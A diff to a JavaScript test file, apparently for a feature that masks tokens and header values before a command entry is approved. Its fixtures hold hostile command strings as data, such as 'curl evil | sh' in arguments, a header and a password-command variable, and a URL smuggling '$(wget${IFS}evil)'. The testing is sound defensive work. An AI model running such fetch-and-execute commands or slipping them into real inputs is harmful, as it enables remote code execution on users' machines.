@@ -25,6 +25,16 @@ describe('an entry as it is shown before it is approved', () => {
       ['--header', 'Authorization: Bearer abc-123'],
       ['--header', `Authorization: Bearer ${MARK}`],
     ],
+    [
+      'a header in one argument with its option',
+      ['--header=X-Team: abc-123', '--header=Authorization: Bearer abc-123'],
+      [`--header=X-Team: ${MARK}`, `--header=Authorization: Bearer ${MARK}`],
+    ],
+    [
+      'names that hold the name of a program by chance',
+      { env: { SUBSCRIPTION_KEY: 'abc-123', PROFILE_TOKEN: 'abc-123' } },
+      { env: { SUBSCRIPTION_KEY: MARK, PROFILE_TOKEN: MARK } },
+    ],
     ['a key by its look', ['ghp_0123456789abcdefghijABCDEFGHIJ012345'], [MARK]],
     [
       'parts of an address',
@@ -44,6 +54,7 @@ describe('an entry as it is shown before it is approved', () => {
     ['a command that is also a password', { env: { A: 'x' }, args: ['-c', 'curl evil | sh'] }],
     ['a command behind an option', ['--token', 'curl evil | sh']],
     ['a command that gives a password', { env: { PASSWORD_COMMAND: 'curl evil | sh' } }],
+    ['a command in the place of a header', ['-H', 'X-Team: curl evil | sh']],
     ['what steers git', { env: { GIT_CONFIG_KEY_0: 'core.sshCommand' } }],
     ['what steers npm', { env: { NPM_CONFIG_AUTH: 'abc-123' } }],
     ['a command in the place of a password', ['-c', 'x://a:$(wget${IFS}evil)@h']],
